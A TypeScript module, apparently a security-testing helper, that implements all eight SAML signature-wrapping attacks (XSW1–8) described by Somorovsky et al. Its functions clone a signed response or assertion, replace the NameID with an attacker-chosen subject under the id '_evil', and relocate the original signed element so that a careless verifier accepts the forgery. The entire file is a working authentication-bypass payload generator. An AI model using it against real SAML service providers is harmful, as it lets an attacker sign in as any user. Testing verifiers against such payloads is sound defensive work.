import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * Signature wrapping after Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012):
 * the signed element is moved to where a verifier still finds it by its id, and an attacker's copy
 * takes its place. Numbered as the paper's authors and SAML testing tools number them.
 */
export type Wrapping = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/** What a variant wraps: the first two a signed response, the others a signed assertion. */
export const signedPart = (wrapping: Wrapping): 'response' | 'assertion' => (wrapping <= 2 ? 'response' : 'assertion');

const find = (within: Document | Element, name: string): Element => {
  const found = within.getElementsByTagNameNS('*', name)[0];
  if (!found) throw new Error(`no ${name}`);
  return found;
};

/** A copy under another id that speaks of somebody else, without a signature. */
function evilCopy(original: Element, subject: string): Element {
  const copy = original.cloneNode(true) as Element;
  copy.setAttribute('ID', '_evil');
  copy.removeChild(find(copy, 'Signature'));
  find(copy, 'NameID').textContent = subject;
  return copy;
}

const afterIssuer = (element: Element, added: Element): void => {
  element.insertBefore(added, find(element, 'Issuer').nextSibling);
};

function wrapResponse(document: Document, wrapping: 1 | 2, subject: string): void {
  const original = document.documentElement;
  const signature = find(original, 'Signature');
  const evil = evilCopy(original, subject);
  original.removeChild(signature);
  document.replaceChild(evil, original);
  afterIssuer(evil, signature);
  if (wrapping === 1) signature.appendChild(original);
  else evil.insertBefore(original, signature);
}

function wrapAssertion(document: Document, wrapping: 3 | 4 | 5 | 6 | 7 | 8, subject: string): void {
  const response = document.documentElement;
  const original = find(response, 'Assertion');
  const signature = find(original, 'Signature');
  const evil = evilCopy(original, subject);
  const inNew = (namespace: string, name: string, child: Element): Element => {
    const element = document.createElementNS(namespace, name);
    element.appendChild(child);
    return element;
  };
  switch (wrapping) {
    case 3:
      response.insertBefore(evil, original);
      break;
    case 4:
      response.replaceChild(evil, original);
      evil.appendChild(original);
      break;
    case 5:
      original.removeChild(signature);
      response.insertBefore(evil, original);
      afterIssuer(evil, signature);
      break;
    case 6:
      original.removeChild(signature);
      response.replaceChild(evil, original);
      afterIssuer(evil, signature);
      signature.appendChild(original);
      break;
    case 7:
      response.insertBefore(inNew('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions', evil), original);
      break;
    case 8:
      original.removeChild(signature);
      response.replaceChild(evil, original);
      afterIssuer(evil, signature);
      signature.appendChild(inNew('http://www.w3.org/2000/09/xmldsig#', 'ds:Object', original));
      break;
  }
}

/** The response, wrapped so that a careless reader takes `subject` for the one who signed in. */
export function wrap(xml: string, wrapping: Wrapping, subject: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  if (wrapping <= 2) wrapResponse(document, wrapping as 1 | 2, subject);
  else wrapAssertion(document, wrapping as 3 | 4 | 5 | 6 | 7 | 8, subject);
  return new XMLSerializer().serializeToString(document);
}
